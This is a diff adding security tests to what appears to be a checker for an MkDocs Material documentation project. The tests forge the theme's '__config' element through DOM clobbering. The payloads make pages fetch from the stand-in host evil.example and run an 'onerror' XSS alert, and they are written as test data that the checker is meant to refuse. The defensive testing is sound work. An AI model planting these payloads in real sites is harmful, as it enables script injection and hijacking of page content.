@@ -338,3 +338,32 @@ def test_bang_comment_end_hides_a_forged_config_from_the_early_warning(project):
         f"Redness for a day.\n\n<!-- x --!> {_content_config()} -->\n",
     )
     _refused(project, "docs/treatments/test-peel.md")
+
+
+# DOM clobbering, no script element at all: Material reads its configuration as
+# `JSON.parse(document.querySelector("#__config").textContent)`, and any element may carry
+# `id`. A `<pre id="__config">` in a treatment's body comes before the theme's own. Passes
+# `mkdocs build --strict` with no warning.
+# Chromium, on treatments/test-peel/: requests https://evil.example/versions.json as the page
+# loads, and https://evil.example/x/search/search_index.json when search opens.
+def test_element_with_the_theme_config_id_fetches_from_another_host(project):
+    config = _forged_config("https://evil.example/x/", {"provider": "mike"}, "Missing")
+    edit(project, "Redness for a day.", f'Redness.\n\n<pre hidden id="__config">{config}</pre>\n')
+    _refused(project, "docs/treatments/test-peel.md")
+
+
+# Chromium, on treatments/test-peel/, press `s`, type `peel`: alert(document.domain) runs
+# (Material writes its translations into the results with innerHTML).
+def test_element_with_the_theme_config_id_runs_script(project):
+    config = _forged_config(
+        "../..", None, "&lt;img src=x onerror=alert(document.domain)&gt;"
+    ).replace("../assets", "../../assets")
+    edit(project, "Redness for a day.", f'Redness.\n\n<pre hidden id="__config">{config}</pre>\n')
+    _refused(project, "docs/treatments/test-peel.md")
+
+
+# The same in plain Markdown: a paragraph given the id by an attribute list.
+def test_markdown_paragraph_with_the_theme_config_id_fetches_from_another_host(project):
+    config = _forged_config("https://evil.example/x/", {"provider": "mike"}, "Missing")
+    edit(project, "Redness for a day.", f"Redness.\n\n{config}\n{{: #__config hidden }}\n")
+    _refused(project, "docs/treatments/test-peel.md")
